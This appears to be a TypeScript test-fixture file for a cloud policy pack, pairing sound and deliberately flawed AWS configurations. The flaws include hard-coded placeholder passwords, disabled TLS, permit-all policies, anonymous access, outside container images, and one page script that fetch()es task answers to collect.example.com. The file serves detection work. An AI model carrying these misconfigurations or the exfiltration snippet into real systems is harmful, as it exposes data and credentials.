import { unknownString } from "../../../policy-pack/lib/unknown";
import { single, type Pair, type Pairs } from "./pair";

const key = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";
const image = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/agents:1";
const secretArn = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:db-AbCdEf";
const aws = (module: string, name: string) => `aws:${module}/${name.charAt(0).toLowerCase()}${name.slice(1)}:${name}`;
const native = (name: string) => `aws-native:${name}`;

const filter = (type: string, more: object = {}) => ({ type, inputStrength: "HIGH", outputStrength: "HIGH", ...more });
const attack = (more: object) => ({ filtersConfig: [filter("HATE"), filter("PROMPT_ATTACK", more)] });

const vpcMode = { networkMode: "VPC", networkModeConfig: { subnets: ["subnet-0a1b"], securityGroups: ["sg-0a1b"] } };
const runtime = {
    agentRuntimeArtifact: { containerConfiguration: { containerUri: image } },
    networkConfiguration: vpcMode,
};
const agent = (rule: string, flaw: object, sound: object = {}): Pair =>
    single(rule, aws("bedrock", "AgentcoreAgentRuntime"), { ...runtime, ...sound }, flaw);
const gateway = (flaw: object, sound: object = {}): Pair =>
    single(
        "bedrock-agentcore-gateway-authorized",
        aws("bedrock", "AgentcoreGateway"),
        { authorizerType: "AWS_IAM", kmsKeyArn: key, ...sound },
        flaw,
    );
const cedar = (statement: string) => ({ policyEngineId: "e", definition: { cedar: { statement } } });
const signIn = (more: object) => ({
    oauth2ProviderConfig: { githubOauth2ProviderConfig: { clientId: "agents", ...more } },
});

const connection = (flaw: object, sound: object = {}): Pair =>
    single(
        "glue-connection-safe",
        aws("glue", "Connection"),
        {
            connectionType: "JDBC",
            connectionProperties: {
                JDBC_CONNECTION_URL: "jdbc:mysql://db/d",
                SECRET_ID: "db",
                JDBC_ENFORCE_SSL: "true",
            },
            ...sound,
        },
        flaw,
    );
const glueJob = (rule: string, flaw: object, sound: object = {}): Pair =>
    single(rule, aws("glue", "Job"), { securityConfiguration: "keyed", glueVersion: "5.0", ...sound }, flaw);
const keyed = (mode: string, name: string) => ({ [name]: mode, kmsKeyArn: key });
const sealed = (s3: object) => ({
    encryptionConfiguration: {
        cloudWatchEncryption: keyed("SSE-KMS", "cloudWatchEncryptionMode"),
        jobBookmarksEncryption: unknownString,
        s3Encryptions: [s3],
    },
});

const results = {
    outputLocation: "s3://results",
    encryptionConfiguration: { encryptionOption: "SSE_KMS", kmsKey: key },
};
const workgroup = (more: object) => ({ name: "w", workGroupConfiguration: { resultConfiguration: results, ...more } });

const submitting = (sparkSubmitParameters: string) => ({
    kmsKeyArn: key,
    jobTemplateData: {
        releaseLabel: "emr-7.5.0-latest",
        jobDriver: { sparkSubmitJobDriver: { entryPoint: "s3://code/t.py", sparkSubmitParameters } },
    },
});
const stepOf = (...args: string[]) => ({
    steps: [{ name: "s", actionOnFailure: "CONTINUE", hadoopJarStep: { jar: "command-runner.jar", args } }],
});
const atRest = (encryption: object) => ({
    securityConfiguration: {
        EncryptionConfiguration: {
            EnableAtRestEncryption: true,
            AtRestEncryptionConfiguration: {
                S3EncryptionConfiguration: { EncryptionMode: "CSE-KMS", AwsKmsKey: key, ...encryption },
                LocalDiskEncryptionConfiguration: {
                    EncryptionKeyProviderType: "AwsKms",
                    AwsKmsKey: key,
                    EnableEbsEncryption: "true",
                },
            },
        },
    },
});
const lent = (dataLakePrincipalIdentifier: string) => ({
    principal: { dataLakePrincipalIdentifier },
    permissions: ["SELECT"],
    resource: { table: { catalogId: "111122223333", databaseName: "d", name: "t" } },
});
const tables = (dataLakePrincipalIdentifier: string) => ({
    createTableDefaultPermissions: [{ permissions: ["ALL"], principal: { dataLakePrincipalIdentifier } }],
});
const voices = (more: object) => ({
    conversationLogSettings: {
        audioLogSettings: [
            { enabled: true, destination: { s3Bucket: { s3BucketArn: "arn:aws:s3:::calls", ...more } } },
        ],
    },
});

export const moreLearning: Pairs = {
    "attacks that are only told of, in aws-native": single(
        "bedrock-guardrail-stops-injection",
        native("bedrock:Guardrail"),
        { kmsKeyArn: key, contentPolicyConfig: attack({ inputEnabled: "true", outputStrength: "NONE" }) },
        { contentPolicyConfig: [attack({ inputAction: "NONE", outputStrength: "NONE" })] },
    ),
    "personal data told of in answers, in aws-native": single(
        "bedrock-guardrail-hides-personal-data",
        native("bedrock:Guardrail"),
        { sensitiveInformationPolicyConfig: { piiEntitiesConfig: [{ type: "EMAIL", action: "ANONYMIZE" }] } },
        {
            sensitiveInformationPolicyConfig: {
                piiEntitiesConfig: [{ type: "EMAIL", action: "BLOCK", outputAction: "NONE" }],
            },
        },
    ),
    "an agent of aws-native without a guardrail": single(
        "bedrock-agent-guarded",
        native("bedrock:Agent"),
        { guardrailConfiguration: { guardrailIdentifier: unknownString, guardrailVersion: "1" } },
        { guardrailConfiguration: {} },
    ),
    "an agent on the internet, by aws-native": single(
        "bedrock-agentcore-network-closed",
        native("bedrockagentcore:Runtime"),
        { agentRuntimeName: "r", networkConfiguration: vpcMode },
        { networkConfiguration: { networkMode: "PUBLIC" } },
    ),
    "an agent from a stranger's image": agent("bedrock-agentcore-image-private", {
        agentRuntimeArtifact: [{ containerConfiguration: [{ containerUri: "ghcr.io/a/b:1" }] }],
    }),
    "keys of tokens fetched in clear, in capitals": agent(
        "bedrock-agentcore-targets-encrypted",
        { authorizerConfiguration: { customJwtAuthorizer: { discoveryUrl: "HTTP://id.example.com/x" } } },
        { authorizerConfiguration: { customJwtAuthorizer: { discoveryUrl: "HTTPS://id.example.com/x" } } },
    ),
    "policies that refuse nothing": gateway(
        { policyEngineConfiguration: { arn: unknownString, mode: "LOG_ONLY" } },
        { policyEngineConfiguration: { arn: unknownString, mode: "ENFORCE" } },
    ),
    "a permit for everybody after a comment": single(
        "bedrock-agentcore-permits-narrow",
        aws("bedrock", "AgentcorePolicy"),
        cedar(
            '// permit(principal, action, resource);\npermit(principal, action, resource) when { principal.team == "a" };',
        ),
        cedar("// all\npermit (\n  principal,\n  action,\n  resource\n) ;"),
    ),
    "a client's secret in the program": single(
        "bedrock-agentcore-no-secrets",
        aws("bedrock", "AgentcoreOauth2CredentialProvider"),
        signIn({ clientSecretConfig: { secretId: secretArn, jsonKey: "secret" } }),
        signIn({ clientSecret: "correct-horse-battery" }),
    ),
    "a way back in clear, where one on the same machine is not": single(
        "bedrock-agentcore-targets-encrypted",
        aws("bedrock", "AgentcoreWorkloadIdentity"),
        { allowedResourceOauth2ReturnUrls: ["http://localhost:8080/back", "https://agents.corp.example/back"] },
        { allowedResourceOauth2ReturnUrls: ["http://localhost.example.com/back"] },
    ),
    "TLS refused while the kind of connection is not known": connection(
        { connectionProperties: { SECRET_ID: "db", JDBC_ENFORCE_SSL: "False" } },
        { connectionType: unknownString },
    ),
    "a password in a connection's address": connection({
        connectionProperties: {
            JDBC_CONNECTION_URL: "jdbc:mysql://db/d?password=correct-horse",
            JDBC_ENFORCE_SSL: "TRUE",
        },
    }),
    "Kafka's password beside its address not known yet": connection(
        {
            connectionProperties: {
                KAFKA_SSL_ENABLED: "true",
                KAFKA_BOOTSTRAP_SERVERS: unknownString,
                KAFKA_SASL_SCRAM_PASSWORD: "correct-horse",
            },
        },
        { connectionType: "KAFKA", connectionProperties: { KAFKA_SSL_ENABLED: "true", ENCRYPTED_PASSWORD: "AQECAHh" } },
    ),
    "a service's password": connection(
        {
            authenticationConfiguration: {
                authenticationType: "BASIC",
                basicAuthenticationCredentials: { username: "u", password: "correct-horse" },
            },
        },
        { connectionType: "SALESFORCE", authenticationConfiguration: { authenticationType: "OAUTH2", secretArn } },
    ),
    "a connection of aws-native in clear": single(
        "glue-connection-safe",
        native("glue:Connection"),
        { connectionInput: { connectionType: "JDBC", connectionProperties: { JDBC_ENFORCE_SSL: "true" } } },
        { connectionInput: { connectionType: "jdbc", connectionProperties: {} } },
    ),
    "a code host's token in a job": glueJob(
        "glue-job-no-secrets",
        { sourceControlDetails: { provider: "GITLAB", authToken: "correct-horse-battery" } },
        { defaultArguments: unknownString, sourceControlDetails: { provider: "GITHUB", authToken: secretArn } },
    ),
    "Spark's key in one argument, beside names of secrets": glueJob(
        "glue-job-no-secrets",
        { defaultArguments: { "--conf": "spark.a=1 --conf spark.hadoop.fs.s3a.secret.key=correct-horse-battery" } },
        { defaultArguments: { "--secret-name": "prod/db", "--db-secret-id": "prod/db", "--token-bucket": "tokens" } },
    ),
    "output encrypted by S3 while bookmarks are not known yet": single(
        "glue-security-configuration-keyed",
        native("glue:SecurityConfiguration"),
        sealed(keyed("SSE-KMS", "s3EncryptionMode")),
        sealed({ s3EncryptionMode: "SSE-S3" }),
    ),
    "new tables for whom IAM lets in, by the database": single(
        "lakeformation-defaults-closed",
        native("glue:Database"),
        { databaseInput: { name: "d", ...tables("arn:aws:iam::111122223333:role/reader") } },
        { databaseInput: { name: "d", ...tables("IAM_ALLOWED_PRINCIPALS") } },
    ),
    "notebooks of Athena without a key": single(
        "athena-results-customer-key",
        native("athena:WorkGroup"),
        workgroup({
            engineVersion: { selectedEngineVersion: "PySpark engine version 3" },
            customerContentEncryptionConfiguration: { kmsKey: key },
        }),
        workgroup({ engineVersion: { selectedEngineVersion: "PySpark engine version 3" } }),
    ),
    "a workgroup of aws-native that enforces nothing": single(
        "athena-workgroup-enforced",
        native("athena:WorkGroup"),
        workgroup({}),
        workgroup({ enforceWorkGroupConfiguration: "false" }),
    ),
    "a key of S3 in what is handed to Spark": single(
        "emr-no-secrets",
        aws("emrcontainers", "JobTemplate"),
        submitting("--conf spark.hadoop.fs.s3a.aws.credentials.provider=com.example.Provider"),
        submitting("--conf spark.hadoop.fs.s3a.secret.key=correct-horse-battery"),
    ),
    "a password of two arguments": single(
        "emr-no-secrets",
        aws("emr", "Cluster"),
        stepOf("load", "--password-file", "s3://secrets/pw", "--verbose"),
        stepOf("load", "--conf", "spark.a=1", "--password", "correct-horse"),
    ),
    "executors from a stranger's image": single(
        "emr-application-image-private",
        aws("emrcontainers", "JobTemplate"),
        submitting(`--conf spark.kubernetes.container.image=${image}`),
        submitting(
            `--conf spark.kubernetes.driver.container.image=${image} --conf "spark.kubernetes.executor.container.image=a/b"`,
        ),
    ),
    "a bucket less in a configuration given as an object": single(
        "emr-security-configuration-keyed",
        native("emr:SecurityConfiguration"),
        atRest({ Overrides: [{ BucketName: "b", EncryptionMode: "SSE-KMS", AwsKmsKey: key }] }),
        atRest({ Overrides: [{ BucketName: "b", EncryptionMode: "SSE-S3" }] }),
    ),
    "logs of an application without a key beside others not known yet": single(
        "emr-application-logs-customer-key",
        native("emrserverless:Application"),
        {
            monitoringConfiguration: {
                cloudWatchLoggingConfiguration: { enabled: "false" },
                s3MonitoringConfiguration: unknownString,
            },
        },
        {
            monitoringConfiguration: {
                cloudWatchLoggingConfiguration: { enabled: "true" },
                s3MonitoringConfiguration: unknownString,
            },
        },
    ),
    "data for everybody of an account": single(
        "lakeformation-permissions-named",
        native("lakeformation:PrincipalPermissions"),
        lent("arn:aws:iam::111122223333:role/reader"),
        lent("111122223333:IAMPrincipals"),
    ),
    "a flywheel that trains outside the VPC": single(
        "comprehend-training-in-vpc",
        native("comprehend:Flywheel"),
        { dataSecurityConfig: { vpcConfig: { subnets: ["subnet-0a1b"], securityGroupIds: ["sg-0a1b"] } } },
        { dataSecurityConfig: [{ modelKmsKeyId: key }] },
    ),
    "voices kept without a key": single(
        "lex-conversation-logs-keyed",
        native("lex:BotAlias"),
        voices({ kmsKeyArn: key }),
        voices({}),
    ),
    "an assistant for anybody": single(
        "qbusiness-application-signed-in",
        native("qbusiness:Application"),
        { identityType: "AWS_IAM_IDC", encryptionConfiguration: { kmsKeyId: key } },
        { identityType: "ANONYMOUS" },
    ),
    "a password of QuickSight's own": single(
        "quicksight-account-federated",
        aws("quicksight", "User"),
        { identityType: "IAM", userRole: "READER", iamArn: "arn:aws:iam::111122223333:role/readers" },
        { identityType: "QUICKSIGHT" },
    ),
    "a source without TLS while its credentials are not known yet": single(
        "quicksight-source-encrypted",
        native("quicksight:DataSource"),
        { type: "POSTGRESQL", credentials: unknownString, sslProperties: { disableSsl: "false" } },
        { sslProperties: [{ disableSsl: "true" }] },
    ),
    "the internet in halves while the switch is not known yet": single(
        "quicksight-reached-from-network",
        aws("quicksight", "IpRestriction"),
        { enabled: unknownString, ipRestrictionRuleMap: { "203.0.113.0/24": "office" } },
        { ipRestrictionRuleMap: { "0.0.0.0/1": "a", "128.0.0.0/1": "b" } },
    ),
    "everybody of the directory in a domain": single(
        "datazone-domain-users-assigned",
        native("datazone:Domain"),
        { kmsKeyIdentifier: key, singleSignOn: { type: "IAM_IDC", userAssignment: "MANUAL" } },
        { singleSignOn: [{ type: "IAM_IDC", userAssignment: "AUTOMATIC" }] },
    ),
    "a key that S3 does not use": single(
        "athena-results-customer-key",
        aws("athena", "Workgroup"),
        {
            configuration: {
                resultConfiguration: { encryptionConfiguration: { encryptionOption: "CSE_KMS", kmsKeyArn: key } },
            },
        },
        {
            configuration: {
                resultConfiguration: { encryptionConfiguration: { encryptionOption: "SSE_S3", kmsKeyArn: key } },
            },
        },
    ),
    "a key that a state machine does not use": single(
        "sfn-machine-customer-key",
        native("stepfunctions:StateMachine"),
        { definitionString: "{}", encryptionConfiguration: { type: "CUSTOMER_MANAGED_KMS_KEY", kmsKeyId: key } },
        { encryptionConfiguration: [{ type: "AWS_OWNED_KEY", kmsKeyId: key }] },
    ),
    "a crawler by a template": single(
        "kendra-data-source-inside",
        aws("kendra", "DataSource"),
        { type: "TEMPLATE", configuration: { templateConfiguration: { template: '{"type":"S3"}' } } },
        { configuration: { templateConfiguration: { template: '{"type":"WEBCRAWLERV2"}' } } },
    ),
    "a directory's password, in a list of one block": single(
        "emr-no-secrets",
        aws("emr", "Cluster"),
        { releaseLabel: "emr-7.5.0", configurationsJson: unknownString },
        { configurationsJson: "[]", kerberosAttributes: [{ realm: "R", adDomainJoinPassword: "correct-horse" }] },
    ),
    "answers that a page sends away": single(
        "sagemaker-human-task-ui-scripts-known",
        aws("sagemaker", "HumanTaskUI"),
        {
            uiTemplate: {
                content: '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script><crowd-form/>',
            },
        },
        { uiTemplate: [{ content: "<script>fetch(`https://collect.example.com`, { body: answers })</script>" }] },
    ),
};
